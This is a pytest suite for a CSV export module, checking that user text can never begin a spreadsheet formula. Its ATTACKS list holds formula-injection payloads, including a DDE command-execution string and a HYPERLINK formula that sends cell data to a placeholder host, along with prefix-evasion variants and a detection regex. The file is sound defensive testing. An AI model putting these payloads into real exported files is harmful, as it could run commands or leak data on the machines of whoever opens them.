"""Tables for other programs: one form for every value, and no formula from the user's words."""

import csv
import datetime as dt
import random
import re
import time
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from achillescli.render.data import csv as sheet

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?n="&A1,"look")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0\ufeff=1+1",
    "\uff1d1+1",
    "calm\n=1+1",
    "calm;=1+1",
    '"=1+1',
    "\x00=1+1",
]  # fmt: skip
FORMULA = re.compile(r"[\s\"\x00-\x1f\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


def cells_of_a_careless_reader(text: str) -> list[str]:
    """Return what a reader takes for cells that parts at every line end and semicolon."""
    return re.split(r"[\n\r;]", text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_a_formula(attack: str) -> None:
    shown = sheet.cell(attack)
    assert not any(FORMULA.match(part) for part in cells_of_a_careless_reader(shown))
    assert shown.replace("'", "") == attack.replace("'", "")


@pytest.mark.parametrize(
    "text", ["", "a-b", "pain 3 + 1", "3 = 3", "'=1", "me@example.org", "two\nlines", "a; b", "½"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert sheet.cell(text) == text


@pytest.mark.slow
@given(st.lists(st.lists(st.text(max_size=40), min_size=2, max_size=2), max_size=5))
def test_every_text_comes_back_but_for_apostrophes(rows: list[list[str]]) -> None:
    columns, *found = read(sheet.csv_text(("a", "b"), rows))
    assert columns == ["a", "b"]
    assert found == [[sheet.harmless(text) for text in row] for row in rows]
    for row, wanted in zip(found, rows, strict=True):
        for shown, text in zip(row, wanted, strict=True):
            assert shown.replace("'", "") == text.replace("'", "")
            assert not any(FORMULA.match(part) for part in cells_of_a_careless_reader(shown))


@given(st.text(alphabet="=+-@\t\r\n;' \"a\uff1d\ufeff", max_size=12))
def test_text_made_of_attacks_comes_back_but_for_apostrophes(text: str) -> None:
    (row,) = read(sheet.csv_text((text, "x"), []))
    assert row[0].replace("'", "") != "" or not text.replace("'", "")
    shown = sheet.cell(text)
    assert shown.replace("'", "") == text.replace("'", "")
    assert not any(FORMULA.match(part) for part in cells_of_a_careless_reader(shown))


NASTY = (
    "=+-@\t\r\n\x00\x0b\x1c;,|'\"\\ aé1\u00a0\u200b\u2028\u202e\u3000\ufeff\uff0b\uff1d\U0001f600"
)


def notes(many: int) -> list[str]:
    """Return so many random notes, always the same."""
    chance = random.Random(1)
    return ["".join(chance.choices(NASTY, k=chance.randrange(12))) for _ in range(many)]


def formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if any(map(FORMULA.match, cells_of_a_careless_reader(cell)))]


def test_many_notes_come_back_and_none_begins_a_formula() -> None:
    """PX5."""
    written = notes(20_000)
    found = [row[0] for row in read(sheet.csv_text(("note", "x"), ([note, 1] for note in written)))]
    assert found == ["note", *map(sheet.harmless, written)]
    assert [cell.replace("'", "") for cell in found[1:]] == [n.replace("'", "") for n in written]
    assert formulas(found) == []


def test_the_notes_would_begin_formulas_if_nothing_were_done() -> None:
    assert len(formulas(notes(1000))) > 100
    assert formulas(ATTACKS) == ATTACKS


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-3, "-3"),
        (2.5, "2.5"),
        (dt.date(2026, 1, 2), "2026-01-02"),
        (
            dt.datetime(2026, 1, 2, 7, 30, tzinfo=dt.timezone(dt.timedelta(hours=1))),
            "2026-01-02T07:30:00+01:00",
        ),
        (("T01", "T29"), '["T01", "T29"]'),
        ((), "[]"),
    ],
)
def test_every_value_has_one_form(
    value: float | dt.date | tuple[str, ...] | None, shown: str
) -> None:
    assert sheet.cell(value) == shown


def test_lines_end_as_rfc_4180_has_it() -> None:
    assert sheet.csv_text(("a", "b"), [(1, 'x"y')]) == 'a,b\r\n1,"x""y"\r\n'


@pytest.mark.parametrize("sign", ["\n", ";", " ", "\x1c", '"', "\u2028", "\t"])
def test_long_text_takes_little_time(sign: str) -> None:
    begun = time.process_time()
    sheet.cell(sign * 200_000)
    sheet.cell(f"{sign};" * 100_000)
    assert time.process_time() - begun < 2
